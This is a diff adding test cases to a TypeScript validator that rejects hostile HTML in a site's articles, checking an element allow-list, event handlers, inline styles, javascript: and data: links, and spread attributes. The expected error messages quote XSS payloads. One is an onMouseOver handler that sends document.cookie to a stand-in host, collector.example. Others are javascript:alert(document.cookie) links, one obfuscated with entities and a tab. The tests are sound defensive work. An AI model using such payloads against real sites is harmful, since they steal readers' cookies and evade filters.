@@ -37,6 +37,13 @@ const broken = (name: string, ...expected: string[]): Case => ({
 });
 
 const FIELDS = 'expected one of title, description, date, updated, author, tags, takeaways, related, next, draft';
+const EMBED = 'elements are not allowed in articles: an embedded page or plugin runs its own code and can track readers; link to it instead';
+const JAVASCRIPT =
+  'the javascript: scheme is not allowed in articles (it runs code when the link is followed); expected an http:, https:, mailto: or tel: URL, or a path such as /articles/<slug>';
+const ALLOWED_ELEMENTS = ['a', 'abbr', 'b', 'bdi', 'bdo', 'blockquote', 'br', 'caption', 'cite', 'code', 'col', 'colgroup', 'dd', 'del',
+  'details', 'dfn', 'dl', 'dt', 'em', 'figcaption', 'figure', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'ins', 'kbd', 'li', 'mark', 'ol', 'p',
+  'pre', 'q', 's', 'samp', 'small', 'span', 'strong', 'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'time', 'tr',
+  'u', 'ul', 'var', 'wbr', 'Callout'].map((name) => `<${name}>`).join(', ');
 
 const CASES: Case[] = [
   // Frontmatter, one kind of mistake each.
@@ -74,6 +81,46 @@ const CASES: Case[] = [
   // Scripts.
   broken('script-tag', ':13 <script> elements are not allowed in articles'),
   { ...buildErrors('script-with-src', ':15 <script> elements are not allowed in articles'), variantOf: 'script-tag' },
+  // Hostile HTML: the allow-list (lib/content/html-allowlist.ts), one rule each.
+  buildErrors('iframe-element', `:15 <iframe> ${EMBED}`),
+  buildErrors('object-element', `:15 <object> ${EMBED}`),
+  buildErrors(
+    'form-element',
+    ":15 <form> elements are not allowed in articles: a form sends what readers type to wherever it points; the newsletter box is the site's only form",
+  ),
+  buildErrors(
+    'style-element',
+    ':15 <style> elements are not allowed in articles: a stylesheet restyles the whole page, not only the article; the site styles articles',
+  ),
+  buildErrors('unlisted-element', `:15 <video> is not an element articles may use: expected one of ${ALLOWED_ELEMENTS}`),
+  buildErrors(
+    'event-handler-attribute',
+    ':15 <span onMouseOver="fetch(`https://collector.example/?c=${document.cookie}`)">: event-handler attributes are not allowed in articles (they run code in the reader\'s browser)',
+  ),
+  buildErrors(
+    'style-attribute',
+    ':15 <span style="position:fixed;inset:0;background:white">: inline styles are not allowed in articles (the site styles articles; CSS can cover the page with a fake one or load images from other servers)',
+  ),
+  buildErrors('javascript-href-jsx', `:15 <a href="javascript:alert(document.cookie)">: ${JAVASCRIPT}`),
+  buildErrors('javascript-link-markdown', `:15 link to javascript:alert(document.cookie): ${JAVASCRIPT}`),
+  // &#106; is "j", &#x09; a tab (browsers drop tabs inside URLs), &#58; the colon, &#x4A; "J" after two spaces.
+  buildErrors(
+    'entity-obfuscated-javascript',
+    `:15 link to java\\tScript:alert(document.cookie): ${JAVASCRIPT}`,
+    `:15 <a href="  Javascript:alert(1)">: ${JAVASCRIPT}`,
+  ),
+  buildErrors(
+    'data-url',
+    ':15 image data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53M…: the data: scheme is not allowed in articles (it carries a whole document or script inside the URL); expected an http:, https:, mailto: or tel: URL, or a path such as /articles/<slug>',
+  ),
+  buildErrors(
+    'attribute-expression',
+    ':15 <a href={…}>: attribute values on HTML elements must be plain text such as href="…" (the check cannot see what an expression holds)',
+  ),
+  buildErrors(
+    'spread-attribute',
+    ":15 <span {...{ onClick: 'alert(document.cookie)' }}>: spread attributes are not allowed on HTML elements (the check cannot see what they set); write each attribute as name=\"value\"",
+  ),
 ];
 
 function errorOf(run: () => unknown): ContentError {
